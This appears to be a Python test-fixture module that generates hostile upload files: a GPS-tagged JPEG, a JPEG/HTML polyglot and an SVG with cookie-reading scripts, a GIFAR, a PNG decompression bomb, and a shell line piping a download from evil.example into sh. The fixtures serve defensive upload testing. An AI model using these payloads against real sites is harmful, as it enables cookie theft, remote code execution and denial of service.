"""Small images and hostile files for the upload tests, made in code (no binary fixtures in the repository)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image


def picture(fmt: str = "JPEG", size: tuple[int, int] = (64, 48), colour: str = "teal", **save: object) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGBA" if fmt in {"PNG", "WEBP"} else "RGB", size, colour)
    image.save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A JPEG whose EXIF says where it was taken (GPS IFD) and with which camera."""
    image = Image.new("RGB", (64, 48), "orange")
    exif = image.getexif()
    exif[0x010F] = "Spy Camera Co"  # Make
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 7.0, 0.0)}  # GPSInfo
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG carrying HTML in a comment segment and again after its end marker."""
    return picture("JPEG", comment=HTML) + HTML


def gifar() -> bytes:
    """A GIF with a ZIP (a Java archive) appended: both a picture and an archive."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
    return picture("GIF") + archive.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG whose header claims `width` x `height` pixels (10 gigapixels: ~30 GB decoded) in a few bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _chunk(b"IEND", b"")
    )
